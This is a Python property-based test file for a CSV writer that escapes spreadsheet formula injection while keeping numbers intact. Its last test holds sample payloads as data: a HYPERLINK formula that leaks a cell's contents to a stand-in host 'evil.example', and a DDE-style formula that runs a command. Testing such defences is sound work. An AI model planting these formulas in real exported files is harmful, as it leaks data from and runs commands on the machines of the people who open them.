"""The one CSV writer: no cell a spreadsheet would run as a formula, numbers
left as numbers, and every other value read back exactly as written."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from joinedup.csvout import FORMULA_STARTS, Cell, safe_cell, write_rows

cells = st.one_of(
    st.none(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(),
    st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text()),
)


def _read(rows: list[list[Cell]]) -> list[list[str]]:
    out = io.StringIO(newline="")
    assert write_rows(out, rows) == len(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.lists(st.lists(cells, min_size=1, max_size=6), min_size=1, max_size=5))
def test_no_cell_starts_a_formula_and_the_rest_reads_back_unchanged(
    rows: list[list[Cell]],
) -> None:
    read = _read(rows)
    assert len(read) == len(rows)
    for written, back in zip(rows, read, strict=True):
        for value, text in zip(written, back, strict=True):
            if text.startswith(FORMULA_STARTS):
                assert _is_number(text), text  # only a number may start with + or -
            if isinstance(value, str) and value.startswith(FORMULA_STARTS) and text != value:
                assert text == "'" + value
            elif value is None:
                assert text == ""
            elif isinstance(value, int | float):
                assert text == str(value)  # numbers stay numbers
            else:
                assert text == value


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_are_never_touched(number: float) -> None:
    assert safe_cell(number) == number
    assert safe_cell(str(number)) == str(number)  # as text too: a spreadsheet reads a number


def test_what_a_spreadsheet_would_run_is_text() -> None:
    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Org B")'
    assert safe_cell(attack) == "'" + attack
    for text in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "+"):
        assert safe_cell(text) == "'" + text
    for kept in ("-5", "1e3", "+4.5", "-.5", "Org = B", "", "a@b.org"):
        assert safe_cell(kept) == kept
